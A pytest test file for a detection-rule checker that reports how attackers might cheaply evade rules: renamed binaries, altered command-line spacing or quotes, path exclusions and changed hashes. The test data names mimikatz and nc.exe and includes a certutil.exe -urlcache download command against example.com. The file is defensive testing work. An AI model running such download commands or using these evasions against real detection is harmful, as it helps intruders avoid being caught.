"""Advice about what an attacker evades cheaply: each variant is run, and nothing is said that is not
so."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

import carengine
from carengine.cli import main
from carengine.engine import Engine
from carengine.verify.robustness import robustness_of

RENAMED = "the rule misses a copy of the program under another name"
CERTUTIL = "certutil.exe -urlcache -f http://example.com/a b"


def rule(condition: str, techniques: str = "", **event: str) -> carengine.Rule:
    """A rule with an example that it finds."""
    fields = {"object": "process", "action": "create", **event}
    head = f"---\nid: R1\ntitle: t\n{techniques}examples:\n"
    head += f"  - {{name: e, match: true, fieldmap: car, events: [{json.dumps(fields)}]}}\n---\n"
    return carengine.parse_rule(f"{head}a = search Process:Create where {condition}\noutput a\n")


TABLE = [
    ('exe = "mimikatz.exe"', {"exe": "mimikatz.exe"}, [RENAMED]),
    ('image_path = "*\\mimi.exe"', {"image_path": "C:\\T\\mimi.exe"}, [RENAMED]),
    # The system starts it under this name.
    ('exe = "lsass.exe"', {"exe": "lsass.exe"}, []),
    # It does what its name says.
    ('exe = "iptables"', {"exe": "iptables"}, []),
    # The name is what the rule is about.
    ('exe = "*.pdf.exe"', {"exe": "a.pdf.exe"}, []),
    # What does not change with the name is asked for as well.
    ('exe = "a1.exe" or command_line = "*-x*"', {"exe": "a1.exe", "command_line": "a1 -x"}, []),
    (
        'command_line = "*certutil.exe -urlcache*"',
        {"exe": "certutil.exe", "command_line": CERTUTIL},
        [
            "the rule misses the same command with two blanks before its options",
            "the rule misses the same command with quotes in its arguments",
            "the rule misses the same command with the other sign before its options",
        ],
    ),
    # It is not known how this program reads its arguments.
    (
        'command_line = "*mytool.exe -x*"',
        {"exe": "mytool.exe", "command_line": "mytool.exe -x 1"},
        [],
    ),
    (
        'command_line = "*evil*" and not image_path = "*\\update.exe"',
        {"image_path": "C:\\T\\x1.exe", "command_line": "x1 evil"},
        [
            "the rule misses the same program run from C:\\Users\\Public\\update.exe, which an "
            "exclusion lets through"
        ],
    ),
    # Nobody else can write there.
    (
        'command_line = "*evil*" and not image_path = "C:\\Windows\\System32\\*"',
        {"image_path": "C:\\T\\x1.exe", "command_line": "x1 evil"},
        [],
    ),
    (
        'md5_hash = "0123456789abcdef0123456789abcdef"',
        {"exe": "x1.exe", "md5_hash": "0123456789abcdef0123456789abcdef"},
        ["the rule misses another build of the same program, with another hash"],
    ),
]


@pytest.mark.parametrize(("condition", "event", "messages"), TABLE)
def test_advice(condition: str, event: dict[str, str], messages: list[str]) -> None:
    made = rule(condition, **event)
    found = robustness_of(made).findings
    assert [one.message for one in found] == messages
    for one in found:
        assert one.code.id == "CE737"
        missed = json.loads(one.notes[-1].removeprefix("missed: "))
        assert any("Summiting the Pyramid" in note for note in one.notes)
        assert not list(Engine([made], "car").run([missed]))
        assert list(Engine([made], "car").run(made.examples[0].events))


def test_masquerading_is_about_names() -> None:
    made = rule('exe = "mimikatz.exe"', "attack: [T1036.005]\n", exe="mimikatz.exe")
    assert robustness_of(made).findings == ()
    assert "T1036" in robustness_of(made).unjudged


def test_a_rule_without_an_example_is_judged_by_a_sample() -> None:
    made = carengine.parse_rule('a = search Process:Create where exe = "nc.exe" output a')
    assert [one.message for one in robustness_of(made).findings] == [RENAMED]


def test_it_is_told_where_it_is_asked_for(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "r.car"
    path.write_text('a = search Process:Create where exe = "nc.exe"\noutput a\n', encoding="utf-8")
    assert main(["check", str(path)]) == 0
    assert "CE737" not in capsys.readouterr().out
    assert main(["check", str(path), "--robustness", "--strict", "-f", "json"]) == 0
    data = json.loads(capsys.readouterr().out)
    [advice] = [one for one in data["diagnostics"] if one["code"] == "CE737"]
    assert advice["severity"] == "note"
